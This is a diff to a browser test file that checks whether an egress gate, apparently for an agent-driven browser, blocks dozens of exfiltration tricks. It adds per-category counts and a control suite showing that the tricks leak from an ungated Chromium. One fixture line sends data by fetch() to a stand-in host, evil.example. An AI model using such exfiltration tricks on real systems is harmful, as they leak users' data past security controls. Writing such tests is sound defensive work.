@@ -1,7 +1,9 @@
 /** @module-tag slow */
-import { afterAll, beforeAll, expect, test } from 'vitest'
+import { chromium, type Browser } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { findChromiums } from './chromium/find.ts'
 import { browserRig, type BrowserRig } from './testing/browser-rig.ts'
-import { EGRESS_TRICKS, SECURE_TRICKS } from './testing/egress-tricks.ts'
+import { EGRESS_TRICKS, SECURE_TRICKS, WAYS, type Way } from './testing/egress-tricks.ts'
 import { needsChromium } from './testing/needs-chromium.ts'
 
 needsChromium()
@@ -24,6 +26,7 @@ beforeAll(async () => {
         "fetch('http://shop.example/shared',{method:'POST',body:'out'});fetch('http://evil.example/shared?out',{mode:'no-cors'})",
       ),
   )
+  serve('shop.example/posts', "<script>fetch('/posted',{method:'POST',body:'out'})</script>")
   serve('shop.example/sw.js', (_request, response) =>
     response
       .setHeader('content-type', 'text/javascript')
@@ -38,8 +41,22 @@ beforeAll(async () => {
 }, 60_000)
 afterAll(() => rig.close())
 
-test('there are at least forty tricks', () => {
+test('there are at least forty tricks, and several of each way that is easily missed', () => {
   expect(EGRESS_TRICKS.length).toBeGreaterThanOrEqual(40)
+  const tried = (way: Way) => [...EGRESS_TRICKS, ...SECURE_TRICKS].filter((trick) => trick.way === way).length
+  expect(Object.fromEntries(WAYS.map((way) => [way, tried(way)]))).toEqual({
+    redirects: 9,
+    'shared workers': 4,
+    WebSockets: 8,
+    WebRTC: 3,
+    QUIC: 1,
+    'loading ahead': 12,
+    'data:': 5,
+    'private addresses': 11,
+    names: 6,
+    'service workers': 1,
+    requests: 39,
+  })
 })
 
 const TYPED = 'typedbytheagent'
@@ -80,7 +97,7 @@ function gotOut(): readonly string[] {
   return out.map(({ method, host, path }) => `${method} ${host}${path}`)
 }
 
-test.each(EGRESS_TRICKS)('nothing leaves by $name', async ({ script }) => {
+test.each(EGRESS_TRICKS)('nothing leaves by $way: $name', async ({ script }) => {
   await press('http://shop.example/', script)
   expect(gotOut()).toEqual([])
   // A name that is only looked up has already been told to others.
@@ -88,7 +105,7 @@ test.each(EGRESS_TRICKS)('nothing leaves by $name', async ({ script }) => {
   expect(rig.village.tunnels()).toBe(tunnels)
 })
 
-test.each(SECURE_TRICKS)('nothing leaves a page over TLS by $name', async ({ script }) => {
+test.each(SECURE_TRICKS)('nothing leaves a page over TLS by $way: $name', async ({ script }) => {
   await press('https://shop.example/', script)
   expect(gotOut()).toEqual([])
   expect(rig.village.named.filter((name) => name !== 'shop.example')).toEqual([])
@@ -103,4 +120,49 @@ test('a page over TLS is read, and what it posts is a question', async () => {
   const seen = await rig.act({ action: 'snapshot' })
   await rig.act({ action: 'click', ref: /Go" \[(e\d+)\]/.exec(seen.text)?.[1] })
   expect(rig.village.arrived.map(({ method, body }) => [method, body])).toContainEqual(['POST', TYPED])
+})
+
+/** Tricks of which a browser without a gate shows nothing here either, and why. */
+const UNSEEN: Readonly<Record<string, string>> = {
+  'loading ahead: a name that tells': 'the lookup is not seen here',
+  'QUIC: WebTransport': 'it sends datagrams; `datagrams.test.ts` sees them',
+}
+
+describe('without a gate the same tricks do get out', () => {
+  let plain: Browser
+  beforeAll(async () => {
+    const { port, securePort, pin } = rig.village
+    const at = ['*.example', '10.0.0.5', 'localhost', '127.0.0.1', '[::1]', '169.254.169.254']
+    const mapped = [
+      ...at.map((host) => `MAP ${host}:80 127.0.0.1:${port}`),
+      `MAP *.example:443 127.0.0.1:${securePort}`,
+      `MAP 127.0.0.1:7777 127.0.0.1:${port}`,
+    ]
+    plain = await chromium.launch({
+      executablePath: findChromiums(process.env, undefined)[0]?.path ?? '',
+      chromiumSandbox: false,
+      args: [`--host-resolver-rules=${mapped.join(' , ')}`, `--ignore-certificate-errors-spki-list=${pin}`],
+    })
+  }, 60_000)
+  afterAll(() => plain.close())
+
+  test.each([
+    ...EGRESS_TRICKS.map((trick) => ({ ...trick, at: 'http://shop.example/' })),
+    ...SECURE_TRICKS.map((trick) => ({ ...trick, at: 'https://shop.example/' })),
+  ])('$at by $way: $name', async ({ way, name, script, at }) => {
+    if (`${way}: ${name}` in UNSEEN) return
+    const { village } = rig
+    village.serve('shop.example/', '<button>Go</button>')
+    const context = await plain.newContext()
+    const page = await context.newPage()
+    await page.goto(at)
+    village.arrived.length = 0
+    const before = village.tunnels()
+    await page.evaluate(`{const V='${TYPED}';${script}}void 0`).catch(() => undefined)
+    const isConnection = name.includes('connection')
+    await expect
+      .poll(() => (isConnection ? village.tunnels() > before : gotOut().length > 0), { timeout: 10_000 })
+      .toBe(true)
+    await context.close()
+  })
 })
